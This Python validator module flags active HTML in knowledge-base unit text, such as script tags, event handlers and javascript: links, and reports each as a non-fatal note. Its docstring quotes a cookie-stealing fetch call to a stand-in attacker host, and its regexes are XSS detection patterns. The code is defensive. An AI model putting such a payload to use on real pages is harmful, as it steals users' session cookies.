"""HTML in a unit's text that an answer cannot show as written: said to the author, not refused.

An answer quotes a unit's words and drops every tag but ``<Cite/>``: a ``<script>`` element's code, a ``<style>``
sheet or an ``<iframe>`` then reaches the reader as loose text ("fetch('https://evil.example/?c='+document.cookie)
and inline." in an attacker's answer), and an ``onerror=`` handler or a ``javascript:`` link is markup an app
rendering the unit's text as HTML would run. Validation said nothing. Each such line is now a note: a knowledge base
about web security may quote them on purpose (in a fenced code block, which is not read here), so it does not fail
the build.
"""

from __future__ import annotations

import re

from .problems import Problem
from .text.excerpt import excerpt

_ACTIVE = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|svg|math)\b[^>]*>"  # an element whose content is code or a page
    r"|<[a-z][a-z0-9-]*\s[^<>]*\bon[a-z]+\s*=[^<>]*>"  # any tag with an event handler
    r"|\b(?:javascript|vbscript)\s*:",
    re.IGNORECASE,
)
#: Markup in a text shown as plain text (a title, a guard rule's response): any tag, a ``javascript:``/``vbscript:``/
#: ``data:`` link. An app that renders it as HTML or Markdown would run or load it.
MARKUP = re.compile(r"</?[a-z][a-z0-9-]*(?:\s[^<>]*)?/?>|\b(?:javascript|vbscript|data)\s*:", re.IGNORECASE)
#: Any tag alone, for texts where "data:" is a word ("Big data: a review", a citation's title).
TAG = re.compile(r"</?[a-z][a-z0-9-]*(?:\s[^<>]*)?/?>", re.IGNORECASE)
_FENCE = re.compile(r"^\s*(```|~~~)")
#: A line quoted in a note is cut to this many characters.
SHOWN_CHARS = 60


def markup_notes(path: str, body: str, first_line: int) -> list[Problem]:
    """One note per body line outside a fenced code block that holds active HTML (``first_line``: the body's first)."""
    notes, fenced = [], False
    for offset, line in enumerate(body.splitlines()):
        if _FENCE.match(line):
            fenced = not fenced
            continue
        found = None if fenced else _ACTIVE.search(line)
        if found is None:
            continue
        notes.append(Problem(path, first_line + offset, "body",
                             f"{excerpt(found.group(0), SHOWN_CHARS)!r} is HTML an answer cannot show: the answer drops "
                             "the tag and quotes what it holds as text, and an app rendering the unit as HTML would run "
                             "it; write the text itself (a Markdown link for a link), or put it in a ``` code block"))
    return notes
